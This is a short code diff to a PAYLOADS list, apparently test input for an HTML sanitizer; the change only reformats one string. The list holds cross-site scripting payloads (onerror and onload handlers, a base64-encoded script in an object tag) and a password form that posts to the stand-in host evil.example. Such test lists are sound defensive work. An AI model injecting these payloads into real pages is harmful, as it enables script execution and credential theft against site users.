@@ -19,7 +19,8 @@ PAYLOADS = [
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>Text",
     '<form action="https://evil.example"><input name="password"></form>Text',
     "<body onload=alert(1)>Text",
-    '<p>Text<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object></p>',
+    '<p>Text<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'
+    "</p>",
 ]
 
 
